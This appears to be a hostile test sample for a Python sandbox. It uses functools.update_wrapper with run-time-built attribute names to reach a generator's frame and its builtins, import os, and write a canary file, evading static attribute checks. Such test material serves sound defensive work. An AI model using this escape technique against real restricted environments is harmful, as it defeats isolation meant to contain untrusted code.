"""Hostile: update_wrapper_frames. ``functools.update_wrapper`` copies attributes by name: given run-time
names it reads a generator's frame, the frames above it and their builtins, and hands each to a
set-attribute hook that keeps them. No attribute is named in the source. Must be rejected and contained."""
import functools

UNDER = "_" * 2


SEEN = {}


class Grab:
    def __setattr__(self, name, value):
        SEEN[name] = value


def pull(source, *names):
    functools.update_wrapper(Grab(), source, assigned=names, updated=())
    return SEEN


def run(inputs):
    def probe():
        yield 1

    frame = pull(probe(), "gi" + "_frame")["gi" + "_frame"]
    if frame is None:
        gen = probe()
        next(gen)
        frame = pull(gen, "gi" + "_frame")["gi" + "_frame"]
    table = pull(frame, "f" + "_builtins")["f" + "_builtins"]
    osmod = table[UNDER + "import" + UNDER]("os")
    fd = osmod.open(inputs["params"]["canary"], 0o101, 0o644)
    osmod.write(fd, b"pwned")
    return {"result": "escaped"}
